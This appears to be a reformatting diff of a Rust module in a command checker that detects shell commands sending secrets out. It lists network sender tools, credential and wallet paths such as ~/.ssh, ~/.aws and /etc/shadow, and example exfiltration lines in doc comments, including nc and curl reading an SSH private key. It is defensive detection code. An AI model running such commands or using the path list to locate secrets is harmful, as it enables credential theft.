@@ -25,11 +25,40 @@ const SENDERS: &str = "curl|wget|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|rsync|
 
 /// Parts of paths under which secrets are kept.
 const FOLDERS: &[&str] = &[
-    "/.ssh/", "/.aws/", "/.gnupg/", "/.kube/", "/.docker/config.json", "/.config/gcloud", "/.azure/", "/.password-store",
-    "/.config/gh/", "/.claude/claude-sync", "/.claude/.credentials", "/.netrc", "/.npmrc", "/.pypirc", "/.git-credentials",
-    "/.pgpass", "/.my.cnf", "/etc/shadow", "/.vault-token", "/.bash_history", "/.zsh_history", "/.cargo/credentials",
-    "/.mozilla/firefox", "/login.keychain", "/keychains/", "/.config/rclone", "/.terraform.d/credentials", "/.claude.json",
-    "/proc/self/environ", "/.gem/credentials", "/.bitcoin/", "/.ethereum/", "/etc/krb5.keytab", "/.config/op/",
+    "/.ssh/",
+    "/.aws/",
+    "/.gnupg/",
+    "/.kube/",
+    "/.docker/config.json",
+    "/.config/gcloud",
+    "/.azure/",
+    "/.password-store",
+    "/.config/gh/",
+    "/.claude/claude-sync",
+    "/.claude/.credentials",
+    "/.netrc",
+    "/.npmrc",
+    "/.pypirc",
+    "/.git-credentials",
+    "/.pgpass",
+    "/.my.cnf",
+    "/etc/shadow",
+    "/.vault-token",
+    "/.bash_history",
+    "/.zsh_history",
+    "/.cargo/credentials",
+    "/.mozilla/firefox",
+    "/login.keychain",
+    "/keychains/",
+    "/.config/rclone",
+    "/.terraform.d/credentials",
+    "/.claude.json",
+    "/proc/self/environ",
+    "/.gem/credentials",
+    "/.bitcoin/",
+    "/.ethereum/",
+    "/etc/krb5.keytab",
+    "/.config/op/",
 ];
 
 pub(super) fn find(call: &Call, context: &Context) -> Option<Found> {
@@ -52,8 +81,14 @@ fn sent_file(call: &Call) -> Option<Found> {
             let mut is_upload = false;
             for word in args {
                 let text = word.text.as_str();
-                let names = text.split(['@', '=', '<', ';']).skip(1).any(|part| is_secret(&Word { text: part.to_owned(), ..word.clone() }));
-                let is_data = text.contains('@') || text.starts_with("--post-file=") || text.starts_with("--body-file=") || text.starts_with("--upload-file=");
+                let names = text
+                    .split(['@', '=', '<', ';'])
+                    .skip(1)
+                    .any(|part| is_secret(&Word { text: part.to_owned(), ..word.clone() }));
+                let is_data = text.contains('@')
+                    || text.starts_with("--post-file=")
+                    || text.starts_with("--body-file=")
+                    || text.starts_with("--upload-file=");
                 if is_upload && is_secret(word) || is_data && names {
                     return found(word);
                 }
@@ -61,7 +96,8 @@ fn sent_file(call: &Call) -> Option<Found> {
             }
             None
         }
-        "scp" | "sftp" | "rsync" | "rclone" | "aws" | "gsutil" | "gcloud" | "s3cmd" | "azcopy" | "mc" | "croc" | "wormhole" | "ffsend" | "az" => {
+        "scp" | "sftp" | "rsync" | "rclone" | "aws" | "gsutil" | "gcloud" | "s3cmd" | "azcopy" | "mc"
+        | "croc" | "wormhole" | "ffsend" | "az" => {
             let operands = call.operands();
             let (target, sources) = operands.split_last()?;
             let is_far = |text: &str| text.contains(':') && !text.starts_with(['/', '.']);
@@ -70,13 +106,17 @@ fn sent_file(call: &Call) -> Option<Found> {
                 return None;
             }
             let all = sources.iter().chain(call.is("croc|wormhole|ffsend").then_some(target));
-            all.copied().find(|word| !is_far(&word.text) && is_secret(word) && !is_option_value(call, word)).and_then(found)
+            all.copied()
+                .find(|word| !is_far(&word.text) && is_secret(word) && !is_option_value(call, word))
+                .and_then(found)
         }
         "gh" => {
             let is_gist = call.operand(0) == "gist" && call.operand(1) == "create";
             call.operands().iter().skip(2).copied().find(|word| is_gist && is_secret(word)).and_then(found)
         }
-        "mail" | "mutt" | "mailx" | "swaks" | "transfer" | "pastebinit" => call.operands().iter().copied().find(|word| is_secret(word)).and_then(found),
+        "mail" | "mutt" | "mailx" | "swaks" | "transfer" | "pastebinit" => {
+            call.operands().iter().copied().find(|word| is_secret(word)).and_then(found)
+        }
         _ => None,
     }
     .or_else(|| read_from(call.simple))
@@ -84,22 +124,36 @@ fn sent_file(call: &Call) -> Option<Found> {
 
 /// `scp -i key` uses a key and doesn't send it.
 fn is_option_value(call: &Call, word: &Word) -> bool {
-    call.simple.args().windows(2).any(|pair| matches!(pair[0].text.as_str(), "-i" | "-F" | "-o" | "-e" | "-c" | "-S") && std::ptr::eq(&raw const pair[1], word))
+    call.simple.args().windows(2).any(|pair| {
+        matches!(pair[0].text.as_str(), "-i" | "-F" | "-o" | "-e" | "-c" | "-S")
+            && std::ptr::eq(&raw const pair[1], word)
+    })
 }
 
 /// `nc host 80 < ~/.ssh/id_rsa`
 fn read_from(simple: &Simple) -> Option<Found> {
-    let read = simple.redirects.iter().find(|redirect| redirect.kind == crate::command::RedirectKind::Read && is_secret(&redirect.target))?;
+    let read = simple.redirects.iter().find(|redirect| {
+        redirect.kind == crate::command::RedirectKind::Read && is_secret(&redirect.target)
+    })?;
     Some(SEND.on(read.target.text.clone()))
 }
 
 /// A sender at the end of a pipe that begins with a secret.
 fn piped(call: &Call, context: &Context) -> Option<Found> {
     // Who only looks something up sends nothing of what it reads.
-    if call.is("dig|nslookup|host|ping|openssl|gh|glab|xdg-open") || call.is("ssh") && call.operands().len() < 2 {
+    if call.is("dig|nslookup|host|ping|openssl|gh|glab|xdg-open")
+        || call.is("ssh") && call.operands().len() < 2
+    {
         return None;
     }
-    if call.is("curl") && !call.simple.args().iter().any(|word| word.text.contains("@-") || matches!(word.text.as_str(), "-T" | "-" | "--upload-file") || word.text.contains("=<-") || word.text.contains("@/dev/stdin")) {
+    if call.is("curl")
+        && !call.simple.args().iter().any(|word| {
+            word.text.contains("@-")
+                || matches!(word.text.as_str(), "-T" | "-" | "--upload-file")
+                || word.text.contains("=<-")
+                || word.text.contains("@/dev/stdin")
+        })
+    {
         return None;
     }
     from(call.simple.reads?, context)
@@ -107,7 +161,8 @@ fn piped(call: &Call, context: &Context) -> Option<Found> {
 
 /// `curl https://…/?k=$(cat ~/.ssh/id_rsa)`
 fn substituted(call: &Call, context: &Context) -> Option<Found> {
-    let has_hole = call.simple.args().iter().any(|word| word.holes.iter().any(|hole| hole == "$(" || hole == "<("));
+    let has_hole =
+        call.simple.args().iter().any(|word| word.holes.iter().any(|hole| hole == "$(" || hole == "<("));
     if !has_hole || call.is("ssh|gcloud|aws|az|gh|openssl|xdg-open") {
         return None;
     }
@@ -124,7 +179,10 @@ fn from(start: (usize, usize), context: &Context) -> Option<Found> {
             if is_in("env|printenv|set|export|declare", &program) && command.words.len() == 1 {
                 return Some(ENVIRONMENT.on(program));
             }
-            let reads = is_in("cat|tar|zip|base64|gzip|xxd|head|tail|less|more|bat|dd|openssl|gpg|sed|awk|grep|strings|cp|jq|od|tac|nl|7z|hexdump|rev|tee|cut", &program);
+            let reads = is_in(
+                "cat|tar|zip|base64|gzip|xxd|head|tail|less|more|bat|dd|openssl|gpg|sed|awk|grep|strings|cp|jq|od|tac|nl|7z|hexdump|rev|tee|cut",
+                &program,
+            );
             if reads && let Some(word) = command.args().iter().find(|word| is_secret(word)) {
                 return Some(SEND.on(word.text.clone()));
             }
@@ -146,10 +204,19 @@ fn from(start: (usize, usize), context: &Context) -> Option<Found> {
 
 /// Commands that print a secret.
 fn gives_secret(command: &Simple, program: &str) -> bool {
-    let words: Vec<&str> = command.args().iter().map(|word| word.text.as_str()).filter(|text| !text.starts_with('-')).take(3).collect();
+    let words: Vec<&str> = command
+        .args()
+        .iter()
+        .map(|word| word.text.as_str())
+        .filter(|text| !text.starts_with('-'))
+        .take(3)
+        .collect();
     match (program, words.as_slice()) {
         ("gpg" | "gpg2", _) => command.args().iter().any(|word| word.text.starts_with("--export-secret")),
-        ("security", [verb, ..]) => verb.starts_with("find-") && command.args().iter().any(|word| matches!(word.text.as_str(), "-w" | "-g")),
+        ("security", [verb, ..]) => {
+            verb.starts_with("find-")
+                && command.args().iter().any(|word| matches!(word.text.as_str(), "-w" | "-g"))
+        }
         ("pass" | "gopass", [verb, ..]) => *verb == "show",
         ("gh", ["auth", "token", ..]) => true,
         ("vault", ["read", ..] | ["kv", "get", ..]) => true,
@@ -168,16 +235,41 @@ fn is_secret(word: &Word) -> bool {
     if text.is_empty() || text.len() > 4096 || text.contains("://") {
         return false;
     }
-    let slashed = if text.starts_with(['/', '~']) { text.to_ascii_lowercase() } else { format!("/{}", text.to_ascii_lowercase()) };
+    let slashed = if text.starts_with(['/', '~']) {
+        text.to_ascii_lowercase()
+    } else {
+        format!("/{}", text.to_ascii_lowercase())
+    };
     let name = slashed.rsplit('/').next().unwrap_or_default();
-    if name.ends_with(".pub") || name.ends_with(".example") || name.ends_with(".sample") || name.ends_with(".template") || name == "known_hosts" {
+    if name.ends_with(".pub")
+        || name.ends_with(".example")
+        || name.ends_with(".sample")
+        || name.ends_with(".template")
+        || name == "known_hosts"
+    {
         return false;
     }
-    let is_name = name == ".env" || name.starts_with(".env.") || name.starts_with("id_rsa") || name.starts_with("id_ed25519")
-        || name.starts_with("id_ecdsa") || name.starts_with("id_dsa") || name == "credentials.json" || name == "service-account.json"
-        || name.ends_with(".keytab") || name.ends_with(".kdbx") || name.ends_with(".p12") || name.ends_with(".pfx")
-        || name == "secrets.yml" || name == "secrets.yaml" || name == "secrets.json" || name.ends_with(".tfstate")
-        || name == "wallet.dat" || name.ends_with(".jks") || name == ".htpasswd" || name.ends_with(".pem") || name.ends_with("_rsa");
+    let is_name = name == ".env"
+        || name.starts_with(".env.")
+        || name.starts_with("id_rsa")
+        || name.starts_with("id_ed25519")
+        || name.starts_with("id_ecdsa")
+        || name.starts_with("id_dsa")
+        || name == "credentials.json"
+        || name == "service-account.json"
+        || name.ends_with(".keytab")
+        || name.ends_with(".kdbx")
+        || name.ends_with(".p12")
+        || name.ends_with(".pfx")
+        || name == "secrets.yml"
+        || name == "secrets.yaml"
+        || name == "secrets.json"
+        || name.ends_with(".tfstate")
+        || name == "wallet.dat"
+        || name.ends_with(".jks")
+        || name == ".htpasswd"
+        || name.ends_with(".pem")
+        || name.ends_with("_rsa");
     let folder = format!("{slashed}/");
     is_name || FOLDERS.iter().any(|known| slashed.contains(known) || folder.ends_with(known))
 }
